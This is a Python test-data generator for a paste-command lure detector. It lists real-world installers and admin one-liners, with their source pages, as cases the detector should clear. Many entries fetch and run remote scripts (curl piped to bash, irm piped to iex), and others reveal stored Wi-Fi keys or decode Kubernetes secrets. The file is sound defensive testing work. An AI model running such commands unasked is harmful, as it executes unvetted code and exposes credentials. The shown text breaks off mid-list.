"""Writes tests/data/cases/fpsweep16.jsonl: a second sweep of ordinary texts people copy from
pages that are not the tool's own (another project's README, a vendor's docs, a Q&A answer, a
security write-up, a help-desk mail) and paste into a terminal, PowerShell, the Run box,
Explorer's address bar or a browser's console, written here from general knowledge of such pages
(no blind set, lure collection or other detector's fixtures read; none of fpsweep15's texts),
each technique cleared beside the look-alikes that try to abuse the clearing and must stay
flagged or blocked.

    python tests/data/cases/make_fpsweep16.py

Deterministic. Real vendors' documentation hosts stand for the pages real commands come from;
invented hosts are reserved names (*.test, *.example, *.invalid, documentation addresses),
phone numbers are in 555 blocks. Each line is {id, text, expect, technique, platform, source,
target}. Texts word for word in the dev corpus (tests/data/dev) or in fpsweep15.jsonl are left
out when the file is written (the labelled-case test keeps the project's cases apart from the
corpus, and this sweep is meant to be new). Those still flagged in their own context are in LEFT
(with why), not in the file.

Cleared here, by technique (each beside the look-alikes that must stay flagged or blocked):

- `markdown-table-rows`: a Markdown table (an intel digest's rows, a cheat sheet, a runbook)
  whose cells name commands. Every shell refuses a line that begins with a pipe (bash and zsh: a
  syntax error; cmd: "| was unexpected"; PowerShell: an empty pipe element) and the Run box has no
  program called `|`, so the rows run nothing: prose.is_prose weighs the lines around them and
  reads a table alone as a report. A command line beside the table, a pipe-led line after a
  command (PowerShell 7 reads it as the command's next stage) and a lure's words in a cell keep
  their weight.
- `defanged-sample-block`: a report's sample set apart as reports set it (a fenced block, lines
  indented as code, a command in double quotes inside a sentence) with every address defanged,
  pasted where nothing runs or the target is unknown: quoted as backticks already quoted it
  (prose.is_sample_write_up, read only for defanged texts). A live address, a share, an order
  before the block, a command outside it, a terminal or the Run box keep their weight; where the
  target is unknown what the sample does without an address (decoding into a shell, a hidden
  start from %TEMP%) still counts.
- `private-network-api`: a call to a device of the user's own network by its private address
  (RFC 1918: a router's, a NAS's, a smart plug's, Elasticsearch's or a cluster service's API at
  10/8, 172.16/12 or 192.168/16, over plain HTTP as such devices serve it) was read as a
  download from a stranger's bare-IP server over plain HTTP (PG-IP-ADDRESS-HOST,
  PG-PLAIN-HTTP-EXEC). The internet does not route those addresses, so no stranger's server
  answers there (signals.on_private_network): the two signals leave them out, as they leave out
  localhost. What the text does with what it fetches still counts (a pipe into a shell, mshta, a
  hidden PowerShell, the Run box from a page), and so do a private address written in disguise
  (one number, hex, octal), a name that starts with its digits or hides it before an @, 172.32/
  172.15, and the public and documentation ranges. The same for a team's package index on such
  an address (PG-NIX-FOREIGN-PACKAGE-INDEX) and a LAN service's own port (PG-SCRIPT-ODD-PORT).
- `local-share-start`: a script or program started from a share of a local-network server by
  its plain name (`& \\\\fs01\\it\\scripts\\Reset-Teams.ps1`, `call \\\\dc01\\netlogon\\logon.bat`), as IT's chat, mail or
  wiki gives it: PG-WIN-UNC-EXECUTE's first pattern now reads the share's host as its other
  patterns (and runbox.py) do, a dotted name, an address, WebDAV or a placeholder; a single
  label resolves only on the local network. A dotted name, an address, WebDAV, a port, and the
  same start written by a check page for the Run box keep their weight.
"""

from __future__ import annotations

from pathlib import Path

from casefile import (  # beside this script, which runs as tests/data/cases/make_*.py
    DEV,
    Book,
    texts_in,
    write,
)

OUT = Path(__file__).with_name("fpsweep16.jsonl")
EARLIER = Path(__file__).with_name("fpsweep15.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
BAR = "explorer_bar"
CONSOLE = "browser_console"
UNKNOWN = "unknown"
OTHER = "other"

# -- (a) installers quoted in OTHER projects' READMEs and docs ------------------------------------

# (page quoting it, command): a project's page telling its users to install a tool first
QUOTED_INSTALLERS = [
    ("https://github.com/quillmere/node-toolbox#requirements", "curl https://get.volta.sh | bash"),
    (
        "https://github.com/harrowfield/web-starter",
        "curl -fsSL https://fnm.vercel.app/install | bash",
    ),
    ("https://prefix.dev/blog/pixi_for_scientists", "curl -fsSL https://pixi.sh/install.sh | bash"),
    (
        "https://github.com/quillmere/geo-notebooks",
        'powershell -ExecutionPolicy ByPass -c "irm -useb https://pixi.sh/install.ps1 | iex"',
    ),
    ("https://github.com/harrowfield/jvm-services", 'curl -s "https://get.sdkman.io" | bash'),
    (
        "https://github.com/harrowfield/jvm-services",
        'source "$HOME/.sdkman/bin/sdkman-init.sh"\nsdk install java 21.0.5-tem',
    ),
    ("https://github.com/quillmere/dotfiles", "curl https://mise.run | sh"),
    (
        "https://github.com/quillmere/dotfiles",
        "echo 'eval \"$(~/.local/bin/mise activate bash)\"' >> ~/.bashrc",
    ),
    ("https://docs.coder.com/install", "curl -L https://coder.com/install.sh | sh"),
    (
        "https://getfoundry.sh/introduction/installation",
        "curl -L https://foundry.paradigm.xyz | bash\nfoundryup",
    ),
    (
        "https://github.com/harrowfield/shell-history",
        "curl --proto '=https' --tlsv1.2 -LsSf https://setup.atuin.sh | sh",
    ),
    (
        "https://github.com/quillmere/terminal-setup",
        "curl -sSfL https://raw.githubusercontent.com/ajeetdsouza/zoxide/main/install.sh | sh",
    ),
    (
        "https://github.com/harrowfield/agent-playground",
        "curl -fsSL https://claude.ai/install.sh | bash",
    ),
    ("https://github.com/harrowfield/agent-playground", "irm https://claude.ai/install.ps1 | iex"),
    ("https://github.com/quillmere/wasm-demo", "curl https://wasmtime.dev/install.sh -sSf | bash"),
    ("https://github.com/quillmere/wasm-demo", "curl https://get.wasmer.io -sSfL | sh"),
    (
        "https://github.com/harrowfield/nix-config",
        "sh <(curl -L https://nixos.org/nix/install) --daemon",
    ),
    (
        "https://github.com/harrowfield/nix-config",
        "curl --proto '=https' --tlsv1.2 -sSf -L https://install.determinate.systems/nix | sh -s -- install",
    ),
    (
        "https://github.com/quillmere/dotnet-worker",
        "curl -sSL https://dot.net/v1/dotnet-install.sh | bash /dev/stdin --channel 8.0",
    ),
    (
        "https://github.com/quillmere/dotnet-worker",
        "Invoke-WebRequest -Uri https://dot.net/v1/dotnet-install.ps1 -OutFile dotnet-install.ps1\n./dotnet-install.ps1 -Channel 8.0",
    ),
    (
        "https://github.com/harrowfield/dotfiles",
        'sh -c "$(curl -fsLS get.chezmoi.io)" -- init --apply harrowfield',
    ),
    (
        "https://github.com/quillmere/k8s-local",
        "curl -s https://raw.githubusercontent.com/k3d-io/k3d/main/install.sh | bash",
    ),
    (
        "https://github.com/harrowfield/rust-cli",
        "curl -L --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/cargo-bins/cargo-binstall/main/install-from-binstall-release.sh | bash",
    ),
    ("https://github.com/harrowfield/infra", "curl -fsSL https://get.pulumi.com | sh"),
    (
        "https://github.com/quillmere/secrets-demo",
        'curl -Ls --tlsv1.2 --proto "=https" --retry 3 https://cli.doppler.com/install.sh | sudo sh',
    ),
    (
        "https://github.com/harrowfield/ci-tools",
        "curl -fsSL https://dl.dagger.io/dagger/install.sh | BIN_DIR=$HOME/.local/bin sh",
    ),
    (
        "https://github.com/quillmere/build-scripts",
        'sh -c "$(curl --location https://taskfile.dev/install.sh)" -- -d -b ~/.local/bin',
    ),
    (
        "https://github.com/harrowfield/rust-cli",
        "curl --proto '=https' --tlsv1.2 -sSf https://just.systems/install.sh | bash -s -- --to ~/bin",
    ),
    ("https://github.com/quillmere/julia-notes", "curl -fsSL https://install.julialang.org | sh"),
    (
        "https://github.com/harrowfield/haskell-exercises",
        "curl --proto '=https' --tlsv1.2 -sSf https://get-ghcup.haskell.org | sh",
    ),
    (
        "https://github.com/harrowfield/ocaml-course",
        'bash -c "sh <(curl -fsSL https://opam.ocaml.org/install.sh)"',
    ),
    (
        "https://github.com/quillmere/lean-proofs",
        "curl https://elan.lean-lang.org/elan-init.sh -sSf | sh",
    ),
    ("https://github.com/harrowfield/py-legacy", "curl https://pyenv.run | bash"),
    (
        "https://github.com/harrowfield/py-legacy",
        'Invoke-WebRequest -UseBasicParsing -Uri "https://raw.githubusercontent.com/pyenv-win/pyenv-win/master/pyenv-win/install-pyenv-win.ps1" -OutFile "./install-pyenv-win.ps1"; &"./install-pyenv-win.ps1"',
    ),
    (
        "https://github.com/quillmere/rails-app",
        "curl -fsSL https://github.com/rbenv/rbenv-installer/raw/HEAD/bin/rbenv-installer | bash",
    ),
    ("https://github.com/quillmere/rails-app", "\\curl -sSL https://get.rvm.io | bash -s stable"),
    ("https://github.com/harrowfield/editor-notes", "curl -f https://zed.dev/install.sh | sh"),
    (
        "https://github.com/quillmere/edge-db-demo",
        "curl -sSfL https://get.tur.so/install.sh | bash",
    ),
    ("https://github.com/harrowfield/mesh-lab", "curl -L https://istio.io/downloadIstio | sh -"),
    (
        "https://github.com/harrowfield/mesh-lab",
        "curl --proto '=https' --tlsv1.2 -sSfL https://run.linkerd.io/install-edge | sh",
    ),
    ("https://github.com/quillmere/dev-envs", "curl -fsSL https://get.jetify.com/devbox | bash"),
    ("https://github.com/quillmere/homeserver", "curl -sSL https://install.pi-hole.net | bash"),
    (
        "https://github.com/quillmere/homeserver",
        "sudo -v ; curl https://rclone.org/install.sh | sudo bash",
    ),
    (
        "https://github.com/harrowfield/media-box",
        "curl https://repo.jellyfin.org/install-debuntu.sh | sudo bash",
    ),
    (
        "https://github.com/harrowfield/node-api#prerequisites",
        "curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -\nsudo apt-get install -y nodejs",
    ),
    (
        "https://github.com/quillmere/monitoring",
        "wget -O /tmp/netdata-kickstart.sh https://get.netdata.cloud/kickstart.sh && sh /tmp/netdata-kickstart.sh",
    ),
    (
        "https://github.com/harrowfield/self-hosting",
        "curl -fsSL https://get.docker.com/rootless | sh",
    ),
    (
        "https://github.com/quillmere/tailnet-tools",
        "curl -fsSL https://tailscale.com/install.sh | sh",
    ),
    ("https://github.com/quillmere/edge-app", "curl -L https://fly.io/install.sh | sh"),
    (
        "https://github.com/quillmere/edge-app",
        'pwsh -Command "iwr https://fly.io/install.ps1 -useb | iex"',
    ),
    (
        "https://github.com/harrowfield/solana-starter",
        'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"',
    ),
    ("https://github.com/harrowfield/app-backend", "curl -L https://encore.dev/install.sh | bash"),
    (
        "https://github.com/quillmere/php-site",
        '/bin/bash -c "$(curl -fsSL https://php.new/install/linux/8.4)"',
    ),
    ("https://github.com/harrowfield/lean-deploy", "curl -fsS https://pkgx.sh | sh"),
    (
        "https://github.com/harrowfield/shell-prompt",
        "curl -s https://ohmyposh.dev/install.sh | bash -s",
    ),
    (
        "https://github.com/quillmere/win-terminal-theme",
        "winget install JanDeDobbeleer.OhMyPosh -s winget",
    ),
    (
        "https://github.com/harrowfield/ai-cli-notes",
        "curl -fsSL https://opencode.ai/install | bash",
    ),
    (
        "https://github.com/quillmere/go-service",
        "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.61.0",
    ),
    ("https://github.com/quillmere/go-service", "go install github.com/air-verse/air@latest"),
    ("https://github.com/harrowfield/docs-site", "npm install -g pnpm@latest-10"),
    ("https://github.com/harrowfield/docs-site", "corepack enable pnpm"),
    ("https://github.com/quillmere/ml-lab", "pipx install uv\nuv sync --all-extras"),
    ("https://github.com/quillmere/ml-lab", "python -m pip install --upgrade pip setuptools wheel"),
    ("https://github.com/harrowfield/win-setup", "winget install --id Git.Git -e --source winget"),
    (
        "https://github.com/harrowfield/win-setup",
        "scoop bucket add extras\nscoop install extras/vscode",
    ),
    ("https://github.com/harrowfield/win-setup", "choco install -y nodejs-lts python3 git"),
    (
        "https://github.com/quillmere/mac-setup",
        "brew install --cask visual-studio-code iterm2 rectangle",
    ),
    ("https://github.com/quillmere/mac-setup", "xcode-select --install"),
    (
        "https://github.com/harrowfield/rust-embedded",
        "rustup target add thumbv7em-none-eabihf\ncargo install probe-rs-tools --locked",
    ),
]

# -- (b) admin and ops one-liners from vendors' docs and Q&A pages ---------------------------------

LEARN_PS = "https://learn.microsoft.com/en-us/powershell/module/"
LEARN_CMD = "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/"
SO = "https://stackoverflow.com/questions/"
SU = "https://superuser.com/questions/"
SF = "https://serverfault.com/questions/"

WIN_ADMIN = [
    (
        LEARN_PS + "microsoft.powershell.diagnostics/get-winevent",
        "Get-WinEvent -LogName System -MaxEvents 50 | Where-Object LevelDisplayName -eq 'Error'",
    ),
    (
        LEARN_PS + "microsoft.powershell.diagnostics/get-winevent",
        "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4625; StartTime=(Get-Date).AddDays(-1)}",
    ),
    (
        SF + "1123/find-who-rebooted-server",
        "Get-WinEvent -FilterHashtable @{LogName='System'; Id=1074} | Select-Object TimeCreated, Message -First 10",
    ),
    (
        SO + "41117421/ps1-cannot-be-loaded-because-running-scripts-is-disabled",
        "Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope Process",
    ),
    (
        SO + "41117421/ps1-cannot-be-loaded-because-running-scripts-is-disabled",
        "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser -Force",
    ),
    (LEARN_PS + "microsoft.powershell.security/get-executionpolicy", "Get-ExecutionPolicy -List"),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/upgrade",
        "winget upgrade --all --include-unknown",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/export",
        "winget export -o C:\\Temp\\apps.json\nwinget import -i C:\\Temp\\apps.json --accept-package-agreements",
    ),
    ("https://docs.chocolatey.org/en-us/choco/commands/upgrade/", "choco upgrade all -y"),
    ("https://scoop.sh/#/buckets", "scoop update *\nscoop cleanup *"),
    (
        "https://learn.microsoft.com/en-us/microsoft-365-apps/deploy/overview-office-deployment-tool",
        "setup.exe /configure configuration-Office365-x64.xml",
    ),
    (
        "https://support.zoom.com/hc/en/article?id=zm_kb&sysparm_article=KB0064484",
        "Invoke-WebRequest -Uri https://zoom.us/client/latest/ZoomInstallerFull.msi?archType=x64 -OutFile C:\\Temp\\ZoomInstallerFull.msi\nmsiexec /i C:\\Temp\\ZoomInstallerFull.msi /qn /norestart",
    ),
    (
        "https://www.7-zip.org/faq.html",
        'msiexec /i 7z2408-x64.msi /qn INSTALLDIR="C:\\Program Files\\7-Zip"',
    ),
    (
        "https://learn.microsoft.com/en-us/azure/developer/azure-cli/install-azure-cli-windows",
        "$ProgressPreference = 'SilentlyContinue'; Invoke-WebRequest -Uri https://aka.ms/installazurecliwindowsx64 -OutFile .\\AzureCLI.msi; Start-Process msiexec.exe -Wait -ArgumentList '/I AzureCLI.msi /quiet'; Remove-Item .\\AzureCLI.msi",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
        "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi",
    ),
    (
        SU + "1219322/how-to-read-registry-value-powershell",
        "Get-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion' | Select-Object ProductName, DisplayVersion, CurrentBuild",
    ),
    (
        SU + "1219322/how-to-read-registry-value-powershell",
        'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall" /s /f "Adobe"',
    ),
    (LEARN_CMD + "reg-query", "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
    (LEARN_CMD + "netsh-wlan", "netsh wlan show profiles"),
    (LEARN_CMD + "netsh-wlan", 'netsh wlan show profile name="Office-WiFi" key=clear'),
    (
        LEARN_CMD + "netsh-advfirewall",
        'netsh advfirewall firewall add rule name="Allow RDP 3389" dir=in action=allow protocol=TCP localport=3389',
    ),
    (LEARN_CMD + "netsh-interface", "netsh interface ip show config"),
    (
        LEARN_CMD + "certutil",
        "certutil -hashfile C:\\Users\\me\\Downloads\\ubuntu-24.04.1-desktop-amd64.iso SHA256",
    ),
    (LEARN_CMD + "certutil", "certutil -store -user My"),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/get-filehash",
        "Get-FileHash .\\VSCodeUserSetup-x64-1.95.3.exe -Algorithm SHA256 | Format-List",
    ),
    (LEARN_CMD + "icacls", 'icacls "D:\\Shares\\Finance" /grant "CONTOSO\\FinanceTeam:(OI)(CI)M"'),
    (LEARN_CMD + "icacls", "icacls C:\\inetpub\\wwwroot /save acl-backup.txt /t"),
    (LEARN_CMD + "schtasks-query", 'schtasks /query /fo LIST /v | findstr /i "TaskName Status"'),
    (
        LEARN_CMD + "schtasks-query",
        'schtasks /query /tn "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag" /v',
    ),
    (
        LEARN_PS + "scheduledtasks/get-scheduledtask",
        "Get-ScheduledTask | Where-Object State -eq 'Ready' | Select-Object TaskName, TaskPath",
    ),
    (LEARN_CMD + "sfc", "sfc /scannow"),
    (
        "https://support.microsoft.com/en-us/topic/use-the-system-file-checker-tool-to-repair-missing-or-corrupted-system-files-79aa86cb-ca52-166a-92a3-966e85d4094e",
        "DISM.exe /Online /Cleanup-image /Restorehealth",
    ),
    (LEARN_CMD + "chkdsk", "chkdsk C: /f /r"),
    (LEARN_CMD + "ipconfig", "ipconfig /flushdns\nipconfig /registerdns"),
    (LEARN_CMD + "gpupdate", "gpupdate /force"),
    (LEARN_CMD + "gpresult", "gpresult /h C:\\Temp\\gpreport.html"),
    (LEARN_CMD + "wevtutil", "wevtutil qe System /c:20 /rd:true /f:text"),
    (LEARN_CMD + "wevtutil", "wevtutil epl Application C:\\Temp\\app-backup.evtx"),
    (
        LEARN_CMD + "robocopy",
        "robocopy D:\\Projects \\\\nas01\\backup\\Projects /MIR /R:2 /W:5 /LOG:C:\\Temp\\robocopy.log",
    ),
    (LEARN_CMD + "bitsadmin", "bitsadmin /list /allusers /verbose"),
    (
        LEARN_PS + "bitstransfer/start-bitstransfer",
        "Start-BitsTransfer -Source https://download.visualstudio.microsoft.com/download/pr/vs_BuildTools.exe -Destination C:\\Temp\\vs_BuildTools.exe",
    ),
    (
        LEARN_PS + "microsoft.powershell.management/get-service",
        "Get-Service | Where-Object {$_.Status -eq 'Stopped' -and $_.StartType -eq 'Automatic'}",
    ),
    (
        LEARN_PS + "microsoft.powershell.management/restart-service",
        "Restart-Service -Name Spooler -Force",
    ),
    (
        LEARN_PS + "microsoft.powershell.management/get-process",
        "Get-Process | Sort-Object CPU -Descending | Select-Object -First 10 Name, Id, CPU",
    ),
    (
        LEARN_PS + "nettcpip/get-nettcpconnection",
        "Get-NetTCPConnection -State Listen | Sort-Object LocalPort | Format-Table LocalAddress, LocalPort, OwningProcess",
    ),
    (
        LEARN_PS + "nettcpip/test-netconnection",
        "Test-NetConnection -ComputerName smtp.office365.com -Port 587",
    ),
    (
        LEARN_PS + "activedirectory/get-aduser",
        "Get-ADUser -Filter 'Enabled -eq $false' -Properties LastLogonDate | Select-Object Name, LastLogonDate",
    ),
    (LEARN_PS + "activedirectory/unlock-adaccount", "Unlock-ADAccount -Identity jsmith"),
    (
        LEARN_PS + "exchange/get-mailboxstatistics",
        "Get-MailboxStatistics -Identity jsmith@contoso.com | Format-List DisplayName, TotalItemSize, ItemCount",
    ),
    (
        "https://learn.microsoft.com/en-us/microsoft-365/enterprise/connect-to-microsoft-365-powershell",
        'Install-Module -Name Microsoft.Graph -Scope CurrentUser\nConnect-MgGraph -Scopes "User.Read.All","Group.ReadWrite.All"',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/exchange/connect-to-exchange-online-powershell",
        "Install-Module -Name ExchangeOnlineManagement\nConnect-ExchangeOnline -UserPrincipalName admin@contoso.onmicrosoft.com",
    ),
    (LEARN_PS + "defender/get-mpthreatdetection", "Get-MpThreatDetection | Select-Object -First 5"),
    (
        LEARN_PS + "defender/update-mpsignature",
        "Update-MpSignature; Start-MpScan -ScanType QuickScan",
    ),
    (
        LEARN_PS + "defender/get-mppreference",
        "Get-MpPreference | Select-Object ExclusionPath, ExclusionProcess",
    ),
    (
        LEARN_PS + "bitlocker/get-bitlockervolume",
        "Get-BitLockerVolume -MountPoint C: | Select-Object VolumeStatus, EncryptionPercentage, KeyProtector",
    ),
    (LEARN_CMD + "manage-bde-protectors", "manage-bde -protectors -get C:"),
    (
        LEARN_PS + "microsoft.powershell.management/get-computerinfo",
        "Get-ComputerInfo -Property OsName, OsVersion, CsManufacturer, CsModel, BiosSMBIOSBIOSVersion",
    ),
    (
        LEARN_PS + "microsoft.powershell.management/get-ciminstance",
        "Get-CimInstance -ClassName Win32_LogicalDisk -Filter \"DriveType=3\" | Select-Object DeviceID, @{n='FreeGB';e={[math]::Round($_.FreeSpace/1GB,1)}}",
    ),
    (
        SU + "1088329/how-to-list-installed-programs-powershell",
        "Get-Package | Sort-Object Name | Format-Table Name, Version -AutoSize",
    ),
    (
        SO
        + "8097354/how-do-i-capture-the-output-into-a-variable-from-an-external-process-in-powershell",
        '$output = & git rev-parse --short HEAD 2>&1\nWrite-Host "commit: $output"',
    ),
    (
        SO + "2124753/how-can-i-use-powershell-with-the-visual-studio-command-prompt",
        '& "C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\Common7\\Tools\\Launch-VsDevShell.ps1" -Arch amd64',
    ),
    (SU + "1306283/wsl-clear-cache", "wsl --shutdown\nwsl --list --verbose"),
    ("https://learn.microsoft.com/en-us/windows/wsl/install", "wsl --install -d Ubuntu-24.04"),
    (SU + "1411238/hosts-file-edit", "notepad C:\\Windows\\System32\\drivers\\etc\\hosts"),
    (LEARN_CMD + "powercfg", "powercfg /batteryreport /output C:\\Temp\\battery.html"),
    (LEARN_CMD + "powercfg", "powercfg /energy"),
    (LEARN_CMD + "w32tm", "w32tm /resync /force"),
    (LEARN_CMD + "netstat", "netstat -ano | findstr :443"),
    (LEARN_CMD + "tasklist", 'tasklist /fi "imagename eq chrome.exe"'),
    (LEARN_CMD + "taskkill", "taskkill /im teams.exe /f"),
    (LEARN_CMD + "whoami", "whoami /groups /fo list"),
    (LEARN_CMD + "net-use", "net use Z: \\\\fs01.contoso.local\\projects /persistent:yes"),
    (LEARN_CMD + "net-user", "net user jsmith /domain"),
    (LEARN_CMD + "nltest", "nltest /dsgetdc:contoso.local"),
    (LEARN_CMD + "klist", "klist purge"),
    (LEARN_CMD + "dsregcmd", "dsregcmd /status"),
    (
        "https://learn.microsoft.com/en-us/mem/intune/apps/intune-management-extension",
        'Get-Content "C:\\ProgramData\\Microsoft\\IntuneManagementExtension\\Logs\\IntuneManagementExtension.log" -Tail 100 -Wait',
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/deployment/windows-update-logs",
        "Get-WindowsUpdateLog -LogPath C:\\Temp\\WindowsUpdate.log",
    ),
    (
        SF + "1013421/reset-windows-update-components",
        "net stop wuauserv\nnet stop bits\nRename-Item C:\\Windows\\SoftwareDistribution SoftwareDistribution.old\nnet start bits\nnet start wuauserv",
    ),
    (
        LEARN_PS + "microsoft.powershell.utility/invoke-restmethod",
        "Invoke-RestMethod -Uri https://api.github.com/repos/PowerShell/PowerShell/releases/latest | Select-Object tag_name, published_at",
    ),
    (
        LEARN_PS + "microsoft.powershell.utility/invoke-restmethod",
        '$headers = @{ Authorization = "Bearer $env:GITHUB_TOKEN" }\nInvoke-RestMethod -Uri https://api.github.com/user/repos -Headers $headers',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows",
        "winget install --id Microsoft.PowerShell --source winget",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/terminal/install",
        "Add-AppxPackage Microsoft.WindowsTerminal_1.21.3231.0_8wekyb3d8bbwe.msixbundle",
    ),
    (
        SO + "4037939/powershell-says-execution-of-scripts-is-disabled",
        "Unblock-File -Path .\\Install-Tools.ps1",
    ),
    (
        LEARN_PS + "microsoft.powershell.archive/expand-archive",
        "Expand-Archive -Path .\\platform-tools-latest-windows.zip -DestinationPath C:\\Android",
    ),
    (
        LEARN_PS + "microsoft.powershell.management/set-itemproperty",
        "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced' -Name HideFileExt -Value 0",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/client-management/mdm/policy-csp-start",
        'reg add "HKCU\\Software\\Classes\\CLSID\\{86ca1aa0-34aa-4e8b-a509-50c905bae2a2}\\InprocServer32" /f /ve',
    ),
]

NIX_ADMIN = [
    (
        "https://www.freedesktop.org/software/systemd/man/latest/systemctl.html",
        "sudo systemctl daemon-reload && sudo systemctl restart nginx && systemctl status nginx --no-pager",
    ),
    (
        "https://www.freedesktop.org/software/systemd/man/latest/journalctl.html",
        'journalctl -u docker.service --since "1 hour ago" -p err',
    ),
    (
        "https://www.freedesktop.org/software/systemd/man/latest/journalctl.html",
        "sudo journalctl --vacuum-time=2weeks",
    ),
    ("https://wiki.archlinux.org/title/Systemd/Timers", "systemctl list-timers --all"),
    (
        "https://docs.docker.com/engine/install/ubuntu/",
        "sudo install -m 0755 -d /etc/apt/keyrings\nsudo curl -fsSL https://download.docker.com/linux/ubuntu/gpg -o /etc/apt/keyrings/docker.asc\nsudo chmod a+r /etc/apt/keyrings/docker.asc",
    ),
    (
        "https://docs.docker.com/engine/install/ubuntu/",
        'echo "deb [arch=$(dpkg --print-architecture) signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/ubuntu $(. /etc/os-release && echo "$VERSION_CODENAME") stable" | sudo tee /etc/apt/sources.list.d/docker.list > /dev/null',
    ),
    (
        "https://github.com/cli/cli/blob/trunk/docs/install_linux.md",
        "curl -fsSL https://cli.github.com/packages/githubcli-archive-keyring.gpg | sudo dd of=/usr/share/keyrings/githubcli-archive-keyring.gpg",
    ),
    (
        "https://www.postgresql.org/download/linux/ubuntu/",
        "sudo apt install -y postgresql-common\nsudo /usr/share/postgresql-common/pgdg/apt.postgresql.org.sh",
    ),
    (
        "https://grafana.com/docs/grafana/latest/setup-grafana/installation/debian/",
        "wget -q -O - https://apt.grafana.com/gpg.key | gpg --dearmor | sudo tee /etc/apt/keyrings/grafana.gpg > /dev/null",
    ),
    (
        "https://www.mongodb.com/docs/manual/tutorial/install-mongodb-on-ubuntu/",
        "curl -fsSL https://www.mongodb.org/static/pgp/server-8.0.asc | sudo gpg -o /usr/share/keyrings/mongodb-server-8.0.gpg --dearmor",
    ),
    (
        "https://code.visualstudio.com/docs/setup/linux",
        "wget -qO- https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor > packages.microsoft.gpg\nsudo install -D -o root -g root -m 644 packages.microsoft.gpg /etc/apt/keyrings/packages.microsoft.gpg",
    ),
    (
        "https://www.elastic.co/guide/en/elasticsearch/reference/current/deb.html",
        "wget -qO - https://artifacts.elastic.co/GPG-KEY-elasticsearch | sudo gpg --dearmor -o /usr/share/keyrings/elasticsearch-keyring.gpg",
    ),
    (
        "https://docs.fedoraproject.org/en-US/quick-docs/rpmfusion-setup/",
        "sudo dnf install https://mirrors.rpmfusion.org/free/fedora/rpmfusion-free-release-$(rpm -E %fedora).noarch.rpm",
    ),
    ("https://docs.fedoraproject.org/en-US/quick-docs/dnf/", "sudo dnf upgrade --refresh -y"),
    (
        "https://rpm.nodesource.com/",
        "sudo dnf config-manager --add-repo https://download.docker.com/linux/fedora/docker-ce.repo",
    ),
    (
        "https://developer.hashicorp.com/terraform/install",
        "wget -O - https://apt.releases.hashicorp.com/gpg | sudo gpg --dearmor -o /usr/share/keyrings/hashicorp-archive-keyring.gpg",
    ),
    (
        "https://developer.hashicorp.com/terraform/cli/commands/plan",
        "terraform init -upgrade\nterraform plan -out=tfplan -var-file=prod.tfvars",
    ),
    (
        "https://developer.hashicorp.com/terraform/cli/commands/state/list",
        "terraform state list | grep aws_s3_bucket",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl get pods -A --field-selector=status.phase!=Running",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl logs -f deploy/api -n prod --since=10m",
    ),
    (
        "https://kubernetes.io/docs/tasks/debug/debug-application/debug-running-pod/",
        "kubectl exec -it api-7f9c6d8b5-x2lqp -n prod -- /bin/sh",
    ),
    (
        "https://kubernetes.io/docs/tasks/access-application-cluster/port-forward-access-application-cluster/",
        "kubectl port-forward svc/grafana 3000:80 -n monitoring",
    ),
    (
        "https://kubernetes.io/docs/concepts/configuration/secret/",
        "kubectl get secret db-credentials -n prod -o jsonpath='{.data.password}' | base64 --decode",
    ),
    (
        "https://kubernetes.io/docs/tasks/tools/install-kubectl-linux/",
        'curl -LO "https://dl.k8s.io/release/$(curl -L -s https://dl.k8s.io/release/stable.txt)/bin/linux/amd64/kubectl"\nsudo install -o root -g root -m 0755 kubectl /usr/local/bin/kubectl',
    ),
    (
        "https://helm.sh/docs/intro/quickstart/",
        "helm repo add bitnami https://charts.bitnami.com/bitnami\nhelm repo update\nhelm install my-redis bitnami/redis --namespace cache --create-namespace",
    ),
    (
        "https://cert-manager.io/docs/installation/kubectl/",
        "kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.16.2/cert-manager.yaml",
    ),
    (
        "https://argo-cd.readthedocs.io/en/stable/getting_started/",
        "kubectl create namespace argocd\nkubectl apply -n argocd -f https://raw.githubusercontent.com/argoproj/argo-cd/stable/manifests/install.yaml",
    ),
    (
        "https://argo-cd.readthedocs.io/en/stable/getting_started/",
        'kubectl -n argocd get secret argocd-initial-admin-secret -o jsonpath="{.data.password}" | base64 -d; echo',
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
        'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip"\nunzip awscliv2.zip\nsudo ./aws/install',
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/s3/sync.html",
        "aws s3 sync ./dist s3://my-site-bucket --delete --cache-control max-age=3600",
    ),
    (
